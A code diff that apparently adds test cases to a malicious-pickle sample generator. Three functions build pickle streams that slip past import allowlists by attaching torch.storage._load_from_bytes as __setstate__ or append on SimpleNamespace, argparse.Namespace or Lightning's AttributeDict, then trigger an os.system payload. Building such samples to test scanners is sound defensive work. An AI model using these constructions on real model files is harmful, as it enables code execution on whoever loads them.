@@ -448,6 +448,42 @@ def tuple2(m: Path) -> bytes:
     return program(glob("subprocess", "run") + args + REDUCE)
 
 
+# --- Attributes the pickle gives an object, then makes the unpickler call ------------------
+
+STATE_CALL = "PICKLE-STATE-CALL"
+
+
+def _load_from_bytes_attribute(name: str) -> bytes:
+    """A state dict {name: torch.storage._load_from_bytes}: only allowlisted imports."""
+    return EMPTY_DICT + uni(name) + glob("torch.storage", "_load_from_bytes") + b"s"
+
+
+@technique("second-build-calls-setstate", family="pickle", filename="model.pkl", expect=STATE_CALL)
+def second_build(m: Path) -> bytes:
+    """SimpleNamespace(); BUILD {__setstate__: _load_from_bytes}; BUILD payload: the second
+    BUILD calls the instance's own __setstate__, a nested torch.load of the payload."""
+    first = glob("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
+    first += _load_from_bytes_attribute("__setstate__") + BUILD
+    return program(first + binbytes(shell_call("os", "system", m)) + BUILD)
+
+
+@technique("appends-calls-append", family="pickle", filename="model.pkl", expect=STATE_CALL)
+def appends_call(m: Path) -> bytes:
+    """argparse.Namespace with an `append` attribute, then APPENDS: append(payload)."""
+    first = glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
+    first += _load_from_bytes_attribute("append") + BUILD
+    return program(first + MARK + binbytes(shell_call("os", "system", m)) + b"e")
+
+
+@technique("attribute-dict-build", family="pickle", filename="model.pkl", expect=STATE_CALL)
+def attribute_dict_build(m: Path) -> bytes:
+    """Lightning's AttributeDict answers attributes from its items: an item `__setstate__`
+    is what BUILD calls, with the payload."""
+    built = glob("lightning.pytorch.utilities.parsing", "AttributeDict") + EMPTY_TUPLE + NEWOBJ
+    built += MARK + uni("__setstate__") + glob("torch.storage", "_load_from_bytes") + b"u"
+    return program(built + binbytes(shell_call("os", "system", m)) + BUILD)
+
+
 # --- Broken streams ---------------------------------------------------------------------------
 
 
